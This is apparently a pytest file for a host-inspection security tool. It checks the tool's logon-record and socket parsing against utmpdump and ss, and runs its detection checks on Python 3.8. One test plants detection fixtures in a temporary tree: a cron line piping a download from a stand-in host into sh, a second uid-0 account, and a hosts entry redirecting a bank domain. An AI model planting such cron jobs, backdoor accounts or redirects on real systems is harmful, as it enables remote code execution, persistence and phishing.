"""Side by side with the system's own tools, and on the oldest Python that a kit carries."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from atttcli.field.host.logons import RECORD, read_records
from atttcli.field.host.sockets import read_table
from tests.support.host_tree import NOW, PASSWD, put

OLD = sorted(Path("/root/.pyenv/versions").glob("3.8.*/bin/python3.8")) if os.access("/root/.pyenv", os.X_OK) else []
ROOT = Path(__file__).resolve().parents[3]


@pytest.mark.skipif(shutil.which("utmpdump") is None, reason="utmpdump is not there")
def test_records_of_logons_as_utmpdump_reads_them(tmp_path: Path) -> None:
    data = b"".join(
        RECORD.pack(kind, 100 + number, b"pts/%d" % number, b"ts", user, host, 0, 0, 0, int(NOW) + number, 0, address)
        for number, (kind, user, host, address) in enumerate(
            [(7, b"lan", b"10.1.1.9", bytes((10, 1, 1, 9)) + bytes(12)), (8, b"", b"", bytes(16)),
             (2, b"reboot", b"6.1", bytes(16)),
             (6, b"x" * 32, b"h" * 256, bytes.fromhex("20010db8000000000000000000000001"))]
        )
    )  # fmt: skip
    (tmp_path / "wtmp").write_bytes(data)
    told = subprocess.run(["utmpdump", tmp_path / "wtmp"], capture_output=True, text=True, check=True).stdout
    theirs = [[field.strip() for field in re.findall(r"\[([^]]*)\]", line)] for line in told.splitlines()]
    ours = [one for _number, one in read_records(data)]
    assert [(row[0], int(row[1]), row[3]) for row in theirs] == [(str(one.kind), one.pid, one.user) for one in ours]
    assert [row[6] for row in theirs] == [one.address or "0.0.0.0" for one in ours]


@pytest.mark.skipif(shutil.which("ss") is None, reason="ss is not there")
def test_a_listening_socket_as_ss_shows_it() -> None:
    with socket.socket(socket.AF_INET6) as server:
        try:
            server.bind(("::1", 0))
        except OSError:
            pytest.skip("no IPv6 here")
        server.listen()
        port = server.getsockname()[1]
        told = subprocess.run(["ss", "-Hltn"], capture_output=True, text=True, check=False).stdout
        ours = {(one.local, one.local_port) for one in read_table(Path("/proc/self/net/tcp6").read_text(), "tcp6")}
    if f"[::1]:{port}" not in told:
        pytest.skip("ss shows no sockets here")
    assert ("::1", port) in ours


@pytest.mark.skipif(not OLD, reason="no Python 3.8 on this machine")
def test_the_same_on_python_3_8(tmp_path: Path) -> None:
    put(tmp_path, "/etc/passwd", PASSWD + "toor:x:0:0::/root:/bin/sh\n")
    put(tmp_path, "/etc/crontab", "* * * * * root curl http://x.example/a | sh\n")
    put(tmp_path, "/etc/hosts", "203.0.113.9 www.bidv.com.vn\n")
    code = (
        "import json, sys, warnings; warnings.simplefilter('error')\n"
        "from atttcli.field.host import windows_api, windows_files, windows_live, windows_registry\n"
        "from atttcli.field.host.run import HostSettings, run_checks\n"
        "print(json.dumps(sorted(one.rule for one in run_checks(HostSettings(sys.argv[1])) if one.rule)))\n"
        "print(sum(1 for one in run_checks(HostSettings(only=['processes', 'sockets', 'modules']))))\n"
    )
    environment = {"PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"}
    done = subprocess.run([OLD[-1], "-c", code, tmp_path], capture_output=True, text=True, env=environment, check=False)
    assert done.returncode == 0, done.stderr
    rules, count = done.stdout.splitlines()
    assert json.loads(rules) == ["host.account-second-root", "host.command-download-run", "host.hosts-redirect"]
    assert int(count) > 3
